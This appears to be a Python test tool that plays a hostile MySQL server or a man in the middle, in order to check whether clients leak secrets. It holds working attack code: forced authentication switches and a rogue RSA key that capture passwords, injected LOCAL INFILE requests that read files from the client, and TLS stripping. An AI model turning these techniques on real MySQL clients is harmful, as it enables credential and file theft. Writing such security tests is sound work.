#!/usr/bin/env python3
"""A hostile MySQL server, or a man in the middle in front of a real one,
speaking the client/server protocol (protocol 10, 4.1 authentication) for
the security tests. Everything the client sends is appended, byte for byte,
to --dump: a test greps it for the password or a file's content, so a leak
is found whatever packet carries it. --log gets one JSON object per event.

  rogue_mysqld.py --port-file F --dump D --log L [mode]

Modes of the standalone server (it offers no TLS, ever):
  (default)                 accept any login; answer queries with OK
  --auth-switch PLUGIN      after the client's handshake response, ask it to
                            switch to PLUGIN (mysql_clear_password, dialog,
                            sha256_password...); record what comes back.
                            caching_sha2_password then asks for the full
                            authentication, as after a restart of MySQL;
                            it and sha256_password serve the rogue's own RSA
                            public key on request (made at start in
                            --rsa-dir) and decrypt what comes back with its
                            private key: the plaintext, XORed with the
                            nonce as the server does, goes to --dump too
  --infile PATH             answer every query (or the first matching
                            --infile-on REGEX per connection) with a LOCAL
                            INFILE request for PATH
Man in the middle:
  --upstream HOST:PORT      relay to a real server; with --strip-tls the
                            server's greeting loses its SSL capability (the
                            client sees a server without TLS); --infile and
                            --infile-on inject a file request in reply to
                            a statement that has no result set (SET ...),
                            on connections whose client offers LOCAL INFILE
"""
import argparse
import json
import os
import re
import select
import socket
import struct
import sys
import threading

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "mysqld"))
import myauth  # noqa: E402  (the double's RSA-OAEP, standard library only)

CLIENT_LONG_PASSWORD = 0x1
CLIENT_FOUND_ROWS = 0x2
CLIENT_LONG_FLAG = 0x4
CLIENT_CONNECT_WITH_DB = 0x8
CLIENT_LOCAL_FILES = 0x80
CLIENT_PROTOCOL_41 = 0x200
CLIENT_SSL = 0x800
CLIENT_TRANSACTIONS = 0x2000
CLIENT_SECURE_CONNECTION = 0x8000
CLIENT_MULTI_STATEMENTS = 0x10000
CLIENT_MULTI_RESULTS = 0x20000
CLIENT_PLUGIN_AUTH = 0x80000
CLIENT_CONNECT_ATTRS = 0x100000
CLIENT_PLUGIN_AUTH_LENENC = 0x200000

SERVER_CAPS = (CLIENT_LONG_PASSWORD | CLIENT_FOUND_ROWS | CLIENT_LONG_FLAG |
               CLIENT_CONNECT_WITH_DB | CLIENT_LOCAL_FILES | CLIENT_PROTOCOL_41 |
               CLIENT_TRANSACTIONS | CLIENT_SECURE_CONNECTION |
               CLIENT_MULTI_STATEMENTS | CLIENT_MULTI_RESULTS | CLIENT_PLUGIN_AUTH |
               CLIENT_CONNECT_ATTRS | CLIENT_PLUGIN_AUTH_LENENC)

lock = threading.Lock()
args = None
rsa = None


def log(conn, event, **kw):
    kw.update(conn=conn, event=event)
    with lock, open(args.log, "a") as f:
        f.write(json.dumps(kw) + "\n")


def dump(data):
    if data:
        with lock, open(args.dump, "ab") as f:
            f.write(data)


class Closed(Exception):
    pass


def recv_exact(sock, n, record):
    out = b""
    while len(out) < n:
        chunk = sock.recv(n - len(out))
        if not chunk:
            raise Closed()
        if record:
            dump(chunk)
        out += chunk
    return out


def read_packet(sock, record=True):
    """(seq, payload) of one packet; record: append the bytes to --dump."""
    head = recv_exact(sock, 4, record)
    n = head[0] | head[1] << 8 | head[2] << 16
    return head[3], recv_exact(sock, n, record)


def write_packet(sock, seq, payload):
    sock.sendall(struct.pack("<I", len(payload))[:3] + bytes([seq & 0xFF]) + payload)


def ok_packet():
    return b"\x00\x00\x00\x02\x00\x00\x00"


def err_packet(code, msg):
    return b"\xff" + struct.pack("<H", code) + b"#HY000" + msg.encode()


def greeting(conn_id, scramble):
    caps = SERVER_CAPS
    return (b"\x0a" + b"5.7.44-log\x00" + struct.pack("<I", conn_id) + scramble[:8] +
            b"\x00" + struct.pack("<H", caps & 0xFFFF) + b"\x21" +
            struct.pack("<H", 2) + struct.pack("<H", caps >> 16) + bytes([21]) +
            b"\x00" * 10 + scramble[8:20] + b"\x00" + b"mysql_native_password\x00")


def parse_response(p):
    """user name and the length of the auth data of a handshake response."""
    caps = struct.unpack("<I", p[:4])[0]
    rest = p[32:]
    user, rest = rest.split(b"\x00", 1)
    n = rest[0]  # a length byte either way (lenenc below 251)
    return caps, user.decode(errors="replace"), n


def serve_infile(cs, conn_id, path):
    """Asks the client for path; records what it sends; answers OK."""
    write_packet(cs, 1, b"\xfb" + path.encode())
    log(conn_id, "infile_request", path=path)
    got = b""
    seq = 1
    while True:
        seq, p = read_packet(cs)
        if not p:
            break
        got += p
    log(conn_id, "infile_data", bytes=len(got))
    write_packet(cs, seq + 1, ok_packet())


def steal_rsa(cs, conn_id, seq, p, scramble):
    """The rest of caching_sha2_password's full authentication, or of
    sha256_password, played to get the password: the rogue's key on
    request, then its decryption. Returns the next sequence number."""
    try:
        if args.auth_switch == "caching_sha2_password":
            # whatever the scramble, as MySQL with a cold cache
            write_packet(cs, seq, b"\x01\x04")
            log(conn_id, "full_auth_asked")
            seq, p = read_packet(cs)
            seq += 1
        if p in (b"\x01", b"\x02"):
            write_packet(cs, seq, b"\x01" + rsa.pem)
            log(conn_id, "key_request")
            seq, p = read_packet(cs)
            seq += 1
    except Closed:
        log(conn_id, "closed_at_full_auth")
        raise
    try:
        plain = rsa.decrypt_oaep(p)
    except ValueError:
        log(conn_id, "rsa_undecryptable", bytes=len(p))
        return seq
    plain = bytes(c ^ scramble[i % len(scramble)] for i, c in enumerate(plain))
    dump(plain)
    log(conn_id, "rsa_decrypted", bytes=len(plain))
    return seq


def rogue(cs, conn_id):
    scramble = os.urandom(20).replace(b"\x00", b"\x01")
    write_packet(cs, 0, greeting(conn_id, scramble))
    log(conn_id, "greeting")
    seq, p = read_packet(cs)
    if len(p) == 32:
        log(conn_id, "ssl_request")  # never offered: a client that asks anyway
        return
    caps, user, n = parse_response(p)
    log(conn_id, "handshake_response", user=user, auth_bytes=n,
        local_files=bool(caps & CLIENT_LOCAL_FILES))
    seq += 1
    if args.auth_switch:
        write_packet(cs, seq, b"\xfe" + args.auth_switch.encode() + b"\x00" + scramble + b"\x00")
        log(conn_id, "auth_switch", plugin=args.auth_switch)
        try:
            seq, p = read_packet(cs)
        except Closed:
            log(conn_id, "closed_at_auth_switch")
            raise
        log(conn_id, "auth_switch_response", bytes=len(p))
        seq += 1
        if args.auth_switch in ("caching_sha2_password", "sha256_password"):
            seq = steal_rsa(cs, conn_id, seq, p, scramble)
    write_packet(cs, seq, ok_packet())
    injected = False
    while True:
        seq, p = read_packet(cs)
        if not p or p[0] == 0x01:  # COM_QUIT
            return
        if p[0] != 0x03:  # COM_PING and the rest: OK
            write_packet(cs, 1, ok_packet())
            continue
        sql = p[1:].decode(errors="replace")
        log(conn_id, "query", sql=sql[:200])
        if args.infile and not injected and re.search(args.infile_on, sql):
            injected = args.infile_on != "."
            serve_infile(cs, conn_id, args.infile)
        elif re.match(r"\s*(SET|USE|BEGIN|COMMIT|ROLLBACK)\b", sql, re.I):
            write_packet(cs, 1, ok_packet())
        else:
            write_packet(cs, 1, err_packet(1064, "not here"))


def mitm(cs, conn_id):
    host, port = args.upstream.rsplit(":", 1)
    us = socket.create_connection((host, int(port)))
    try:
        seq, g = read_packet(us, record=False)
        # capability flags, lower half: after the version and 13 bytes
        at = g.index(b"\x00", 1) + 1 + 4 + 8 + 1
        caps = struct.unpack("<H", g[at:at + 2])[0]
        if args.strip_tls and caps & CLIENT_SSL:
            g = g[:at] + struct.pack("<H", caps & ~CLIENT_SSL) + g[at + 2:]
            log(conn_id, "stripped_tls")
        write_packet(cs, seq, g)
        injected = False
        while True:
            r, _, _ = select.select([cs, us], [], [])
            if us in r:
                data = us.recv(65536)
                if not data:
                    return
                cs.sendall(data)
            if cs in r:
                seq, p = read_packet(cs)
                if seq == 1 and len(p) > 32:
                    caps, user, n = parse_response(p)
                    log(conn_id, "handshake_response", user=user, auth_bytes=n,
                        local_files=bool(caps & CLIENT_LOCAL_FILES))
                    # only where the client offers LOCAL INFILE at all
                    injected = not caps & CLIENT_LOCAL_FILES
                write_packet(us, seq, p)
                if seq != 0 or not p or p[0] != 0x03:
                    continue
                sql = p[1:].decode(errors="replace")
                log(conn_id, "query", sql=sql[:200])
                if args.infile and not injected and re.search(args.infile_on, sql):
                    injected = True
                    read_packet(us, record=False)  # the server's OK: dropped
                    serve_infile(cs, conn_id, args.infile)
    finally:
        us.close()


def handle(cs, conn_id):
    try:
        (mitm if args.upstream else rogue)(cs, conn_id)
    except (Closed, ConnectionError, OSError):
        pass
    finally:
        log(conn_id, "closed")
        cs.close()


def main():
    global args
    ap = argparse.ArgumentParser()
    ap.add_argument("--port-file", required=True)
    ap.add_argument("--dump", required=True)
    ap.add_argument("--log", required=True)
    ap.add_argument("--auth-switch")
    ap.add_argument("--infile")
    ap.add_argument("--infile-on", default=".")
    ap.add_argument("--upstream")
    ap.add_argument("--strip-tls", action="store_true")
    ap.add_argument("--rsa-dir")
    args = ap.parse_args()
    global rsa
    if args.rsa_dir:
        os.makedirs(args.rsa_dir, exist_ok=True)
        rsa = myauth.RsaKey(args.rsa_dir)
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("127.0.0.1", 0))
    ls.listen(64)
    open(args.dump, "ab").close()
    open(args.log, "a").close()
    with open(args.port_file + ".tmp", "w") as f:
        f.write(str(ls.getsockname()[1]))
    os.rename(args.port_file + ".tmp", args.port_file)
    n = 0
    while True:
        cs, _ = ls.accept()
        n += 1
        threading.Thread(target=handle, args=(cs, n), daemon=True).start()


if __name__ == "__main__":
    sys.exit(main())
